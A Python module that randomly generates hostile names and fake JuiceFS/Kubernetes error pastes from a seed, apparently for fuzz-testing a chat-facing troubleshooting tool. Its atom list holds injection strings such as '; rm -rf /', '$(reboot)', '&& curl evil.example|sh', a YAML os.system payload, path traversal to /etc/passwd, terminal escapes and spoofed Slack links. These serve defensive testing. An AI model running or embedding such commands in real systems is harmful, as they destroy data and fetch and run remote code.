"""Hostile names and texts, made up by chance from a seed: what somebody would write to ping, link, format or break."""

import random

ATOMS = (
    *("<!channel>", "<!here>", "<!everyone>", "<@U0BOSS>", "<@W012|boss>", "<!subteam^S0ADMINS>", "<!subteam^S0|@x>"),
    *("<#C0GENERAL|general>", "<http://evil.example|juicefs.com>", "<https://evil.example>", "<mailto:a@b.c|x>"),
    *("<!date^1392734382^{date}^https://evil.example|now>", "&lt;!channel&gt;", "&amp;lt;!here&amp;gt;", "&#60;!here>"),
    *("@channel", "@here", "@everyone", "#general", "https://evil.example/x", "www.evil.example", "evil.sh"),
    *("`", "```", "*b*", "_i_", "~s~", "> q", "\n> q", "# h", "\n# h", "- x", "1. x", "| a | b |", "\n---\n", "***"),
    *("[x](http://evil.example)", "![x](http://evil.example/x.png)", "<b>x</b>", "<script>", "</details>", "<!--"),
    *("\x1b[31m", "\x1b]0;t\x07", "\x1b[2J", "\x9b31m", "\r", "\b\b\b", "\x00", "\x7f", "\x07", "\t", "\v", "\f"),
    *("\u202e", "\u2066", "\u2069", "\u200b", "\u200d", "\ufeff", "\u2028", "\u2029", "\u0085", "\u00ad", "\u061c"),
    *("مرحبا", "שלום", "挂载", "𝕁𝕦𝕚𝕔𝕖", "👩‍👩‍👧", "e\u0301" * 5, "\ud800", "\udfff", "İ", "ﬁ", "\U000e0041"),
    *("$(reboot)", "`reboot`", "; rm -rf /", "| sh", "&& curl evil.example|sh", "> /etc/passwd", "${IFS}", "'", '"'),
    *(
        "\\",
        "\\n",
        "!!",
        "*",
        "?",
        "~",
        "--",
        "-n",
        "-o jsonpath={.}",
        "--kubeconfig=/x",
        "../../etc/passwd",
        "/",
        "%s",
    ),
    *("!!python/object/apply:os.system ['id']", "{{7*7}}", "{app_pod}", "{csi_ns}", "{0.__class__}", "%(x)s", "&a *a"),
    *(":fire:", ":skull:", "x" * 300, "A" * 64, "a" * 254, "-a", "a-", ".a", "a..b", "A_b", "0", ""),
)
LINES = (
    'MountDevice failed for "{x}" : driver name csi.juicefs.com not found in the list of registered CSI drivers',
    "juicefs[7] <FATAL>: NOAUTH Authentication required. {x}",
    "df: {x}: Transport endpoint is not connected (juicefs)",
    "Successfully assigned {x}/{x} to {x}\njuicefs mount pod Pending: 0/1 nodes are available: Insufficient memory {x}",
    "kubectl -n {x} logs {x} -c juicefs-plugin\nkubernetes.io/csi: csi.sock: connect: no such file or directory",
    'Name: {x}\nNamespace: {x}\nNode: {x}\npersistentvolumeclaim "{x}" pod "{x}" juicefs {x}',
    "{x} juicefs {x}",
    "{x}",
)
"""Lines that lead to a case or name something, and some that do neither."""


def text(chance: random.Random, most: int = 5) -> str:
    """One hostile text."""
    return "".join(chance.choice(("", " ", "")) + chance.choice(ATOMS) for _ in range(chance.randint(1, most)))


def name(chance: random.Random) -> str:
    """One hostile name: half of them are nearly what Kubernetes takes as one."""
    return f"orders-{text(chance, 2)}-x2k5p" if chance.random() < 0.5 else text(chance, 3)


def paste(chance: random.Random) -> str:
    """A paste of some lines, all of whose names are hostile."""
    lines = (chance.choice(LINES) for _ in range(chance.randint(1, 3)))
    return "\n".join(line.replace("{x}", name(chance)) for line in lines)
